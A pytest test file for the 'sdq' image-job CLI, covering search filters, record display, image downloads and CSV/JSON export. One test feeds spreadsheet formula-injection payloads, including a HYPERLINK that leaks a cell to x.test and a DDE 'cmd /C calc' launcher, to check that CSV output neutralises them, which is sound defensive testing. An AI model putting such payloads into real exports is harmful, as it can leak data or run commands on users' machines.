"""`sdq search`, `sdq show` and `sdq get` over real rows and real stored images."""
from __future__ import annotations

import csv
import hashlib
import io
import json
import re
from pathlib import Path

import pytest

from sdq.images.provenance import read_png_metadata

from .conftest import MODEL_SHA, Home

PROMPTS = ["a red dragon over the sea", "a lighthouse at dusk", "a red fox, " + "very " * 30 + "red"]


def test_search_table_json_and_csv(any_home: Home) -> None:
    job = any_home.add_job(PROMPTS, item_tags=[["fantasy"], None, ["animals", "fantasy"]])
    table = any_home.run("search", "red")
    assert table.exit_code == 0, table.output
    lines = table.output.splitlines()
    assert lines[0].split() == ["id", "job", "seed", "sampler", "size", "safety", "prompt",
                                "created"]
    assert len(lines) == 3 and "a red fox, very" in lines[1] and lines[1].count("...") == 1
    assert "64x64" in lines[1] and "a red dragon over the sea" in lines[2]
    records = json.loads(any_home.run("search", "red", "--json").output)
    assert [r["seed"] for r in records] == [102, 100]
    assert records[1]["prompt"] == PROMPTS[0] and records[1]["model_sha256"] == MODEL_SHA
    assert records[1]["job"] == job.id and records[1]["tags"] == ["fantasy"]
    rows = list(csv.DictReader(io.StringIO(any_home.run("search", "--csv").output)))
    assert [row["prompt"] for row in rows] == PROMPTS[::-1]
    assert rows[0]["tags"] == "animals,fantasy"


def test_search_filters(any_home: Home) -> None:
    first = any_home.add_job(PROMPTS, done=1, item_tags=[["fantasy"], None, ["animals"]])
    second = any_home.add_job(["a red barn"], item_tags=[["nightly"]])

    def seeds(*args: str) -> list[int]:
        result = any_home.run("search", *args, "--json")
        assert result.exit_code == 0, result.output
        return [r["seed"] for r in json.loads(result.output)]

    assert seeds("--seed", "101") == [101]
    assert seeds("--job", str(first.id), "--status", "done") == [100]
    assert seeds("--tag", "fantasy") == [100]
    assert seeds("--tag", "animals") == [102]
    assert seeds("red", "--job", str(second.id)) == [100]
    assert seeds("--model", "tiny", "--limit", "2") == [100, 102]
    assert seeds("--model", MODEL_SHA[:8], "--job", str(first.id)) == [102, 101, 100]
    assert seeds("--since", "2000-01-01", "--until", "2000-01-02") == []
    assert seeds("--since", "2000-01-01 10:00", "--tag", "nope") == []
    ids = [r["id"] for r in json.loads(any_home.run("search", "--json").output)]
    assert seeds("--before", str(ids[1]), "--limit", "1") == [101]  # the page after two


def test_get_into_a_folder_that_cannot_be_written(home: Home, tmp_path: Path) -> None:
    job = home.add_job(["a"], done=1)
    (tmp_path / "file").write_text("")
    result = home.run("get", "--job", str(job.id), "-o", str(tmp_path / "file" / "out"))
    assert result.exit_code == 1
    assert result.output.startswith(f"Error: cannot write {tmp_path / 'file' / 'out'}")


def test_a_tag_matches_the_item_or_its_job(any_home: Home) -> None:
    any_home.add_job(["a castle", "a moat"], item_tags=[["keep"], None])
    any_home.add_job(["a bridge", "a gate"], tags=["nightly", "keep"])
    any_home.add_job(["a tower"], tags=["keeps"], item_tags=[["kee"]])
    found = json.loads(any_home.run("search", "--tag", "keep", "--json").output)
    assert [r["prompt"] for r in found] == ["a gate", "a bridge", "a castle"]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--seed", "-1"], "Invalid value for '--seed'"),
        (["--status", "lost"], "Invalid value for '--status'"),
        (["--since", "yesterday"], "Invalid value for '--since'"),
        (["--limit", "-1"], "Invalid value for '--limit'"),
    ],
)
def test_search_rejects_bad_options(home: Home, args: list[str], message: str) -> None:
    result = home.run("search", *args)
    assert result.exit_code == 2 and message in result.output


def test_show_prints_the_record_and_the_environment_from_the_image(home: Home) -> None:
    job = home.add_job(PROMPTS[:2], done=1)
    done_id = json.loads(home.run("search", "dragon", "--json").output)[0]["id"]
    record = json.loads(home.run("show", str(done_id), "--json").output)
    assert record["job"] == job.id and record["status"] == "done" and record["seed"] == 100
    assert record["model"] == "tiny" and record["image_key"] == f"{job.id}/{done_id}.png"
    assert record["environment"]["device"] == "cpu" and record["environment"]["rng_device"] == "cpu"
    text = home.run("show", str(done_id)).output
    assert re.search(r"^prompt +a red dragon over the sea$", text, re.M)
    assert re.search(r"^environment +sdq=.*device=cpu", text, re.M)
    pending = json.loads(home.run("show", str(done_id + 1), "--json").output)
    assert pending["status"] == "pending" and "environment" not in pending
    missing = home.run("show", "12345")
    assert missing.exit_code == 3 and missing.output == "Error: no item 12345\n"


def test_get_downloads_images_and_records_and_skips_identical_files(home: Home, tmp_path: Path) -> None:
    job = home.add_job(PROMPTS, done=2)
    out = tmp_path / "out"
    result = home.run("get", "--job", str(job.id), "-o", str(out))
    assert result.exit_code == 1  # the third item has no image yet
    assert "2 image(s) written, 0 already there" in result.stdout
    assert "no image yet (pending)" in result.stderr
    pngs = sorted(out.glob("*.png"))
    assert len(pngs) == 2 and len(list(out.glob("*.json"))) == 2
    sidecar = json.loads(pngs[0].with_suffix(".json").read_text())
    assert sidecar["image_sha256"] == hashlib.sha256(pngs[0].read_bytes()).hexdigest()
    assert read_png_metadata(pngs[0]).provenance.item_id == int(pngs[0].stem)

    pngs[1].write_bytes(b"damaged")
    again = home.run("get", pngs[0].stem, pngs[1].stem, "-o", str(out), "--json")
    assert again.exit_code == 0, again.output
    report = json.loads(again.output)
    assert report["written"] == [str(pngs[1])] and report["skipped"] == [str(pngs[0])]
    assert read_png_metadata(pngs[1]).provenance.item_id == int(pngs[1].stem)


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        ([], 2, "give ITEM ids or --job JOB, not both or neither"),
        (["1", "--job", "1"], 2, "give ITEM ids or --job JOB"),
        (["777", "778"], 3, "Error: no item 777, 778"),
        (["--job", "9"], 3, "Error: no job 9"),
    ],
)
def test_get_errors(home: Home, tmp_path: Path, args: list[str], code: int, message: str) -> None:
    result = home.run("get", *args, "-o", str(tmp_path / "out"))
    assert result.exit_code == code and message in result.output


FORMULAS = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
            "-2+3", "\tleading tab", "\rleading cr"]


def test_csv_cells_that_spreadsheets_would_run_are_neutralised_and_json_is_exact(home: Home
                                                                                 ) -> None:
    home.add_job(FORMULAS, item_tags=[["=1+2"]] * len(FORMULAS), name="=cmd()",
                 tags=["@evil"])
    rows = list(csv.DictReader(io.StringIO(home.run("search", "--csv").output)))
    assert sorted(row["prompt"] for row in rows) == sorted("'" + p for p in FORMULAS)
    assert {row["tags"] for row in rows} == {"'=1+2"}
    assert {row["seed"] for row in rows} == {str(100 + n) for n in range(len(FORMULAS))}
    records = json.loads(home.run("search", "--json").output)
    assert sorted(r["prompt"] for r in records) == sorted(FORMULAS)
    assert {tuple(r["tags"]) for r in records} == {("=1+2",)}
    [job] = list(csv.DictReader(io.StringIO(home.run("jobs", "--csv").output)))
    assert job["name"] == "'=cmd()" and job["tags"] == "'@evil"
    assert json.loads(home.run("jobs", "--json").output)[0]["name"] == "=cmd()"


def test_bare_words_dash_words_and_empty_queries_on_both_databases(any_home: Home) -> None:
    any_home.add_job(["a red fox", "a red barn", "a cat -cat", "a castle <lora:add_detail:0.8>"])

    def seeds(*args: str) -> list[int]:
        result = any_home.run("search", *args, "--json")
        assert result.exit_code == 0, result.output
        return sorted(r["seed"] for r in json.loads(result.output))

    assert seeds("red", "fox") == [100]          # every bare word must match
    assert seeds("red") == [100, 101]
    assert seeds("-cat") == [102]                # a word, not an option
    assert seeds("--limit", "1", "-cat") == [102]
    assert seeds("<lora:add_detail:0.8>") == [103]
    assert seeds("add_detail") == [103]
    empty = any_home.run("search", '"')
    assert empty.exit_code == 2 and "nothing to search for in '\"'" in empty.output
    typo = any_home.run("search", "fox", "--lmit", "3")
    assert typo.exit_code == 2 and "no such option --lmit" in typo.output
    assert seeds('"--lmit"') == []


@pytest.mark.parametrize("command", [["search", "--csv"], ["jobs", "--csv"],
                                     ["models", "list", "--csv"]])
def test_csv_has_one_column_set_whether_or_not_anything_matches(home: Home,
                                                                command: list[str]) -> None:
    empty = home.run(*command)
    assert empty.exit_code == 0, empty.output
    home.add_job(PROMPTS, done=1, item_tags=[["fantasy"], None, None])
    full = home.run(*command)
    header, *rows = list(csv.reader(io.StringIO(full.output)))
    assert empty.output.rstrip("\r\n").split(",") == header and rows
    assert all(len(row) == len(header) for row in rows)
    if command[0] == "search":
        assert set(header) == set(json.loads(home.run("search", "--json").output)[0])
